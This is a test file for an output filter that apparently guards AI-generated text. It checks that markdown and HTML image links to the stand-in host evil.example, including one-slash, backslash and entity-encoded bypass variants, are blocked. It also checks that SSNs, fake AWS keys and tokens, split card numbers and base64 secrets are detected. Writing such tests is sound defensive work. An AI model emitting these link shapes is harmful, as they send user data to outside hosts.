import { describe, expect, it } from "vitest";
import { filterOutput, findSensitive, type OutputRules } from "../src/output/index.js";

// Each way an output used to get data past `output exfiltration` or `output pii`, as a case.
const rules: OutputRules = { exfiltration: { kind: "block" }, pii: { kind: "redact" }, allowDomains: ["docs.example.com"] };
const exfil = (text: string) => filterOutput(text, { exfiltration: { kind: "block" }, allowDomains: ["docs.example.com"] });
const kinds = (text: string) => findSensitive(text).map((s) => s.kind);

describe("output exfiltration: URLs a renderer resolves to another host", () => {
  const cases: [string, string][] = [
    ["markdown image with one slash", "Here you go ![x](https:/evil.example/?d=c2VjcmV0)"],
    ["markdown image without slashes", "Here you go ![x](https:evil.example/?d=123)"],
    ["markdown image with a backslash", "Here you go ![x](https:\\evil.example/?d=123)"],
    ["img tag with one slash", 'Done. <img src="https:/evil.example/p.png?d=abc">'],
    ["reference-style image", "Summary below ![chart][1]\n\n[1]: https:/evil.example/c.png?d=abc"],
    ["reference-style image, collapsed label", "See ![status][]\n\n[status]: https://evil.example/s.png?q=1"],
    ["HTML-entity-encoded img src", 'Done. <img src="&#104;&#116;&#116;&#112;&#115;&#58;&#47;&#47;evil.example/p.png?d=abc">'],
    ["entity-encoded markdown image", "Result ![x](https&colon;//evil.example/?d=abc)"],
    ["bare one-slash URL", "Open https:/evil.example/collect?d=abc to continue."],
  ];
  for (const [name, text] of cases) {
    it(`blocks a ${name}`, () => {
      const out = exfil(text);
      expect(out.blocked).toBe(true);
      expect(out.findings.some((f) => f.kind === "exfiltration" && /evil\.example/.test(f.detail ?? ""))).toBe(true);
    });
  }
  it("still allows the allow-listed host and relative links", () => {
    expect(exfil("See ![diagram](https://docs.example.com/d.png) and [the guide](/guide).").blocked).toBe(false);
    expect(exfil("Docs: [ref]\n\n[ref]: https://docs.example.com/ref").blocked).toBe(false);
  });
  it("reports a reference definition used by an image as an image", () => {
    const out = exfil("![x][logo]\n\n[logo]: https://evil.example/l.png");
    expect(out.findings[0]?.detail).toMatch(/^image to evil\.example/);
  });
});

describe("output pii and secrets: shapes that used to pass", () => {
  it("finds US social security numbers", () => {
    expect(kinds("Her SSN is 123-45-6789.")).toContain("us_ssn");
    expect(kinds("SSN: 123456789")).toContain("us_ssn");
    expect(kinds("Order 123-45-6789 shipped")).toContain("us_ssn");
    expect(kinds("Ticket 000-12-3456 and 666-12-3456 are not SSNs")).not.toContain("us_ssn");
    expect(kinds("call 2024-05-14")).not.toContain("us_ssn");
  });
  it("finds AWS secret access keys", () => {
    expect(kinds("aws_secret_access_key = wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY")).toContain("secret");
    expect(
      kinds('{"AccessKeyId": "AKIAIOSFODNN7EXAMPLE", "SecretAccessKey": "wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY"}').filter(
        (k) => k === "secret",
      ).length,
    ).toBe(2);
    expect(kinds("AWS key id AKIAIOSFODNN7EXAMPLE, secret Je7MtGbClwBF/2Zp9Utk/h3yCo8nvbEXAMPLEKEY")).toEqual(["secret", "secret"]);
  });
  it("finds cards written one digit or one group per line", () => {
    expect(kinds("4\n1\n1\n1\n1\n1\n1\n1\n1\n1\n1\n1\n1\n1\n1\n1")).toContain("payment_card");
    expect(kinds("Card:\n4111\n1111\n1111\n1111\nthanks")).toContain("payment_card");
    expect(kinds("Amex:\n3782\n822463\n10005")).toContain("payment_card");
    expect(kinds("1\n2\n3\n4\n5\n6\n7\n8\n9\n10")).not.toContain("payment_card");
  });
  it("finds secrets split across a line break", () => {
    expect(kinds("token: ghp_aB3dE5fG7hJ9kL1mN3pQ5r\nS7tU9vW1xY3zA5bC7dE9")).toContain("secret");
    expect(kinds("sk-proj-4fG7hJ9kL1mN3pQ5\n   rS7tU9vW1xY3zA5bC7dE9")).toContain("secret");
    expect(kinds("configuration\nmanagement is described in the handbook")).toEqual([]);
  });
  it("finds base64-encoded secrets", () => {
    const b64 = (s: string) => Buffer.from(s).toString("base64");
    expect(kinds(`Here: ${b64("OPENAI_API_KEY=sk-4fG7hJ9kL1mN3pQ5rS7tU9vW1xY3zA5b")}`)).toContain("secret");
    expect(kinds(`Creds ${b64("password=Hunter2Hunter2!")}`)).toContain("secret");
    expect(kinds(`Note ${b64("The meeting is at noon on Friday.")}`)).toEqual([]);
  });
  it("redacts each of them through the filter", () => {
    const out = filterOutput("SSN 123-45-6789, card\n4111\n1111\n1111\n1111", rules);
    expect(out.text).toContain("[REDACTED:us_ssn]");
    expect(out.text).toContain("[REDACTED:payment_card]");
  });
});
